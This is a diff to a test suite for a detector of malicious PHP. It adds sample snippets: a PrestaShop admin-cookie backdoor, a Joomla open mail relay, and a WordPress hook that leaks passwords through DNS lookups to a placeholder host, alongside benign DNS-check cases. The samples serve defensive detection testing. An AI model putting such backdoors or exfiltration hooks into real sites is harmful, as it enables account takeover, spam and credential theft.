@@ -158,6 +158,16 @@ describe('administrators and logins', () => {
       'php.makes-administrator',
     ],
     [
+      'the cookie of PrestaShop',
+      `if (isset(${GET}['i'])) { $c = new Cookie('psAdmin'); $c->id_employee = 1; $c->write(); }`,
+      'php.logs-anybody-in',
+    ],
+    [
+      'a letter of Joomla',
+      `foreach (explode("\\n", ${POST}['i']) as $a) { $m = JFactory::getMailer(); $m->addRecipient($a); $m->setSubject(${POST}['s']); $m->setBody(${POST}['b']); $m->Send(); }`,
+      'php.open-mailer',
+    ],
+    [
       'a user whom the request names',
       `add_action('init', fn () => isset(${GET}['i']) && wp_set_auth_cookie((int) ${GET}['i']));`,
       'php.logs-anybody-in',
@@ -226,6 +236,11 @@ describe('passwords and cards', () => {
       'php.keeps-logins',
     ],
     [
+      'the name of a host',
+      `add_action('wp_authenticate', function ($n, $p) { if ($p) gethostbyname(bin2hex($p) . '.t.example.test'); }, 10, 2);`,
+      'php.keeps-logins',
+    ],
+    [
       'the whole form',
       `function login() { $c = curl_init('${HOME}/a'); curl_setopt($c, CURLOPT_POSTFIELDS, ${POST}); curl_exec($c); check(${POST}['password']); }`,
       'php.keeps-logins',
@@ -253,6 +268,14 @@ describe('passwords and cards', () => {
     [
       'a directory of users is asked',
       `add_filter('authenticate', function ($u, $n, $p) { $r = wp_remote_post('${HOME}/a', ['body' => $p]); return found($r); }, 1, 3);`,
+    ],
+    [
+      'the host of a mail address is looked for',
+      `add_action('user_register', function ($id) { return checkdnsrr(substr(strrchr(${POST}['email'], '@'), 1), 'MX'); });`,
+    ],
+    [
+      'only a digest is asked for',
+      `add_filter('authenticate', function ($u, $n, $p) { return checkdnsrr(md5($p) . '.list.example.test') ? null : $u; }, 30, 3);`,
     ],
     [
       'a gateway is paid',
